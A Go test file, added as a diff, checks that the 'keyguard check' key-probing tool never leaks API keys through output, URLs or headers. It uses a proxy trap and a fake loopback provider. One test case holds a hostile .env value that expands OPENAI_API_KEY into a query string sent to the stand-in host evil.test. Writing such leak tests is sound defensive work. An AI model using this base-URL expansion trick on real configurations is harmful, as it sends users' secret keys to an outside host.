@@ -1,0 +1,225 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/keyguard/keyguard/envscan/fakeprovider"
+)
+
+// Hostile-workspace tests of `keyguard check` (issue 10): each builds a
+// workspace, runs the real binary with every non-loopback request caught by
+// a proxy trap, and asserts that no full key reaches stdout, stderr, or any
+// URL or header the listeners saw.
+
+// secKey builds an OpenAI-shaped key at run time (no key-shaped literal in
+// the source); seed makes keys distinct.
+func secKey(seed string) string {
+	body := strings.Repeat(seed, 64)
+	return "sk-proj-" + body[:40] + "T3Blbk" + "FJ" + body[7:47]
+}
+
+// proxyTrap stands in for every host that is not loopback: the binary runs
+// with HTTPS_PROXY/HTTP_PROXY pointing here (Go never proxies loopback), so
+// a probe to an official host arrives as a CONNECT that is recorded and
+// refused: no test ever reaches the network.
+type proxyTrap struct {
+	srv  *httptest.Server
+	mu   sync.Mutex
+	seen []string // method and target of each request
+	hdrs []http.Header
+}
+
+func newProxyTrap(t *testing.T) *proxyTrap {
+	p := &proxyTrap{}
+	p.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		p.mu.Lock()
+		p.seen = append(p.seen, r.Method+" "+r.Host+" "+r.URL.String())
+		p.hdrs = append(p.hdrs, r.Header.Clone())
+		p.mu.Unlock()
+		http.Error(w, "no network in tests", http.StatusForbidden)
+	}))
+	t.Cleanup(p.srv.Close)
+	return p
+}
+
+func (p *proxyTrap) env() []string {
+	return []string{"HTTPS_PROXY=" + p.srv.URL, "HTTP_PROXY=" + p.srv.URL, "https_proxy=" + p.srv.URL, "http_proxy=" + p.srv.URL, "NO_PROXY=", "no_proxy="}
+}
+
+func (p *proxyTrap) targets() []string {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return append([]string(nil), p.seen...)
+}
+
+// procRun is one run of the binary.
+type procRun struct {
+	stdout, stderr string
+	code           int
+	elapsed        time.Duration
+	maxRSSKB       int64
+}
+
+// runKeyguardEnv runs the binary in dir with extra environment and a time
+// limit, and reports its peak memory.
+func runKeyguardEnv(t *testing.T, dir string, env []string, limit time.Duration, args ...string) procRun {
+	t.Helper()
+	cmd := exec.Command(keyguardBin, args...)
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), env...)
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	start := time.Now()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	timer := time.AfterFunc(limit, func() { _ = cmd.Process.Kill() })
+	err := cmd.Wait()
+	timer.Stop()
+	r := procRun{stdout: stdout.String(), stderr: stderr.String(), elapsed: time.Since(start)}
+	if r.elapsed >= limit {
+		t.Fatalf("keyguard %v ran over its %v limit (killed)\nstdout %s\nstderr %s", args, limit, r.stdout, r.stderr)
+	}
+	if ee, ok := err.(*exec.ExitError); ok {
+		r.code = ee.ExitCode()
+	} else if err != nil {
+		t.Fatalf("running keyguard: %v", err)
+	}
+	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
+		r.maxRSSKB = ru.Maxrss // kilobytes on Linux
+	}
+	return r
+}
+
+// noKeyAnywhere fails if a full key (as written or trimmed) is in any of the
+// texts.
+func noKeyAnywhere(t *testing.T, keys []string, what string, texts ...string) {
+	t.Helper()
+	for _, k := range keys {
+		for _, form := range []string{k, strings.TrimSpace(k)} {
+			for _, s := range texts {
+				if strings.Contains(s, form) {
+					t.Errorf("%s holds a full key:\n%s", what, s)
+				}
+			}
+		}
+	}
+}
+
+// noKeyInRequests fails if a key is in any URL a listener saw, or in a
+// header other than the one that is meant to carry it to that listener.
+func noKeyInRequests(t *testing.T, keys []string, fp *fakeprovider.Server, trap *proxyTrap) {
+	t.Helper()
+	for _, r := range fp.Requests() {
+		h := r.Header.Clone()
+		h.Del("Authorization")
+		h.Del("x-api-key")
+		h.Del("x-goog-api-key")
+		hdr, _ := json.Marshal(h)
+		noKeyAnywhere(t, keys, "a request the loopback provider received", r.Path, r.Query, r.Host, string(hdr))
+	}
+	if trap != nil {
+		trap.mu.Lock()
+		hdr, _ := json.Marshal(trap.hdrs)
+		seen := strings.Join(trap.seen, "\n")
+		trap.mu.Unlock()
+		noKeyAnywhere(t, keys, "a request the proxy trap received", seen, string(hdr))
+	}
+}
+
+type checkJSON struct {
+	Results []struct {
+		Var, Provider, Verdict, Detail, RequestID, Endpoint, Code string
+		Status                                                    int
+	} `json:"results"`
+	Issues []struct {
+		Line                           int
+		Code, Message, Check, Severity string
+	} `json:"issues"`
+}
+
+func parseCheckJSON(t *testing.T, out string) checkJSON {
+	t.Helper()
+	var rep checkJSON
+	if err := json.Unmarshal([]byte(out), &rep); err != nil {
+		t.Fatalf("not JSON: %v\n%s", err, out)
+	}
+	return rep
+}
+
+func (c checkJSON) hasIssue(check string) bool {
+	for _, is := range c.Issues {
+		if is.Check == check && is.Code == "env-format" {
+			return true
+		}
+	}
+	return false
+}
+
+// Item 1: ${} in a workspace base URL must never carry a key into output or
+// into a URL.
+func TestCheckBaseURLExpansionNeverCarriesKey(t *testing.T) {
+	key := secKey("Qm3vR8tX1zLp")
+	keys := []string{key}
+	fp := fakeprovider.New()
+	srv := httptest.NewServer(fp)
+	defer srv.Close()
+	fp.Set(key, fp.Scenario("openai", "valid"))
+	loop := strings.TrimPrefix(srv.URL, "http://")
+	host := loop[:strings.IndexByte(loop, ':')]
+
+	tests := []struct {
+		name  string
+		env   string
+		args  []string
+		issue string // the env-format check that must be reported
+	}{
+		{"query to a foreign host", "OPENAI_API_KEY=" + key + "\nOPENAI_BASE_URL=https://evil.test/v1?k=${OPENAI_API_KEY}\n", nil, "key-in-url"},
+		{"path to an allowed loopback host", "OPENAI_API_KEY=" + key + "\nOPENAI_BASE_URL=" + srv.URL + "/${OPENAI_API_KEY}/v1\n",
+			[]string{"--allow-host", host}, "key-in-url"},
+		{"quoted, built from a host variable", "OPENAI_API_KEY=" + key + "\nH=" + loop + "\nOPENAI_BASE_URL=\"http://${H}/v1\"\n",
+			[]string{"--allow-host", host}, "expanded-base-url"},
+		{"endpoint setting holding the key", "OPENAI_API_KEY=" + key + "\n",
+			[]string{"--endpoint", "openai=" + srv.URL + "/" + key + "/v1"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			trap := newProxyTrap(t)
+			dir := t.TempDir()
+			writeEnv(t, dir, ".env", tt.env)
+			before := fp.Count("")
+			for _, format := range []string{"text", "json"} {
+				r := runKeyguardEnv(t, dir, trap.env(), 30*time.Second, append([]string{"check", "--format", format, "--timeout", "2s"}, tt.args...)...)
+				noKeyAnywhere(t, keys, "keyguard check --format "+format+" output", r.stdout, r.stderr)
+				if format == "json" {
+					rep := parseCheckJSON(t, r.stdout)
+					if tt.issue != "" && !rep.hasIssue(tt.issue) {
+						t.Errorf("no env-format %s issue:\n%s", tt.issue, r.stdout)
+					}
+					if len(rep.Results) != 1 || rep.Results[0].Verdict == "valid" {
+						t.Errorf("the probe must not have reached the listener through the refused URL:\n%s", r.stdout)
+					}
+				}
+			}
+			noKeyInRequests(t, keys, fp, trap)
+			if n := fp.Count("") - before; n != 0 {
+				t.Errorf("the loopback listener got %d requests through a URL built with the key", n)
+			}
+			for _, tg := range trap.targets() {
+				if !strings.Contains(tg, "api.openai.com") {
+					t.Errorf("a probe went to %q, not the official host", tg)
+				}
+			}
+		})
+	}
+}
